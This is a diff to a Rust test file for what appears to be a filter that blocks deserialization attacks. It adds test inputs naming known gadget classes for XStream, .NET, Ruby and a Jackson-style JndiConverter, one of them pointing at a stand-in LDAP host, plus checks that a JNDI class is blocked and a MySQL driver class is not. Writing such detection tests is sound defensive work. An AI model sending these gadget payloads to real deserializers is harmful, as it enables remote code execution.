@@ -101,6 +101,20 @@ fn other_containers() {
         b"<wddxPacket><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'></struct></data></wddxPacket>",
         "xml-gadget",
     );
+    attack(b"<linked-hash-set><sun.reflect.A serialization=\"custom\"/></linked-hash-set>", "xml-gadget");
+    attack(
+        b"<root type=\"System.Data.Services.Internal.ExpandedWrapper`2[[a]], System.Data\"/>",
+        "xml-gadget",
+    );
+    attack(b"{\"^o\":\"Gem::SpecFetcher\"}", "gadget-type");
+    attack(
+        b"{\"type\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://a.example/a\"}",
+        "gadget-type",
+    );
+    let (have, blocks) = run(Place::Form, "driver", b"javax.naming.InitialContext");
+    assert!(blocks, "{have}");
+    let (have, blocks) = run(Place::Form, "driver", b"com.mysql.jdbc.Driver");
+    assert!(!blocks, "{have}");
     attack(b"<ResourceDictionary xmlns:s=\"clr-namespace:System;assembly=mscorlib\"/>", "xml-gadget");
     attack(b"<sorted-set><string>a</string><dynamic-proxy/></sorted-set>", "xml-proxy");
     let (have, blocks) = run(Place::Name, "", b"config.as xyz.__construct().config");
